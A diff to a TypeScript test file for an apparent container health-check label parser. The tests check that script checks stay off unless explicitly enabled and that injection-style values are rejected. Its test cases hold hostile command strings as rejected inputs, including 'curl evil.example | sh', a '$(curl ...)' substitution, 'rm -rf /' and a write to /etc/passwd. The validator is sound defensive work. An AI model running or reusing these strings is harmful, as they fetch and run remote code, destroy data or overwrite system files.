@@ -64,7 +64,11 @@ t.test('hostile and mistaken values are refused, naming the label, and leave the
     [{ 'weft.check.http': ':99999/' }, 'weft.check.http', /1-65535/],
     [{ 'weft.check.http': ':8080/a b' }, 'weft.check.http', /:PORT/],
     [{ 'weft.check.tcp': ':5432/x' }, 'weft.check.tcp', /write :PORT/],
-    [{ 'weft.check.script': 'curl evil.example | sh' }, 'weft.check.script', /not taken from labels.*HEALTHCHECK/],
+    [
+      { 'weft.check.script': 'curl evil.example | sh' },
+      'weft.check.script',
+      /off on this agent.*checks.allowContainerScripts.*HEALTHCHECK/,
+    ],
     [{ 'weft.check.htp': ':8080' }, 'weft.check.htp', /unknown check label/],
     [{ 'weft.check.interval': '5s' }, 'weft.check.interval', /without a check/],
     [{ 'weft.check.ttl': 'forever' }, 'weft.check.ttl', /duration/],
@@ -103,4 +107,54 @@ t.test('a container with checks gets them in its record, critical until the chec
   t.match(m.record.checks, [{ name: 'http', status: 'critical', output: 'not run yet' }]);
   const plain = mapContainer({ ...info, Config: { Labels: base } }, { node: 'n1', nodeAddr: '10.0.0.1' });
   t.ok(plain.kind === 'endpoint' && !('checks' in plain.record), 'no checks: no field, the record is as before');
+});
+
+t.test('with checks.allowContainerScripts, weft.check.script is an argv that runs in the container', async (t) => {
+  const on = { containerScripts: true };
+  const p = parseLabels({ ...base, 'weft.check.script': '/bin/check --quick', 'weft.check.timeout': '1s' }, on);
+  t.same(p.problems, []);
+  t.match(p.checks, [{ name: 'script', kind: 'script', target: '/bin/check --quick', timeoutMs: 1_000 }]);
+  const json = parseLabels({ ...base, 'weft.check.script': '["sh", "-c", "test -f /ready || exit 2"]' }, on);
+  t.same(json.problems, [], 'a shell, when the label names one: its characters are its own business');
+  const info: InspectInfo = {
+    Id: 'c'.repeat(64),
+    State: { Running: true },
+    Config: { Labels: { ...base, 'weft.check.script': '/bin/check' } },
+    NetworkSettings: { Networks: { bridge: { IPAddress: '172.17.0.2' } } },
+  };
+  const m = mapContainer(info, { node: 'n1', nodeAddr: '10.0.0.1', containerScripts: true });
+  t.match(m, {
+    kind: 'endpoint',
+    record: { source: 'docker', container: 'c'.repeat(64), checks: [{ kind: 'script' }] },
+  });
+  t.match(mapContainer(info, { node: 'n1', nodeAddr: '10.0.0.1' }), { kind: 'invalid' }, 'off by default');
+});
+
+t.test('hostile weft.check.script values are refused, and the container left out', async (t) => {
+  const on = { containerScripts: true };
+  const cases: [string, RegExp][] = [
+    ['/bin/check; rm -rf /', /";" is for a shell.*\["sh", "-c"/],
+    ['check $(curl evil.example)', /"\$" is for a shell/],
+    ['check `id`', /"`" is for a shell/],
+    ['check | sh', /"\|" is for a shell/],
+    ['check > /etc/passwd', /">" is for a shell/],
+    ["check 'quoted arg'", /is for a shell/],
+    ['check\nreboot', /control characters/],
+    ['check\u0000x', /control characters/],
+    ['x'.repeat(100_000), /at most 512 characters/],
+    [Array.from({ length: 40 }, () => 'a').join(' '), /at most 32 words/],
+    ['["sh", "-c"', /not valid JSON/],
+    ['["sh", 1]', /list of strings/],
+    ['[]', /a command to run/],
+    ['   ', /a command to run|one line/],
+  ];
+  for (const [value, reason] of cases) {
+    const p = parseLabels({ ...base, 'weft.check.script': value }, on);
+    t.equal(p.checksRefused, true, JSON.stringify(value.slice(0, 40)));
+    t.match(
+      p.problems.find((x) => x.label === 'weft.check.script')?.reason,
+      reason,
+      JSON.stringify(value.slice(0, 40)),
+    );
+  }
 });
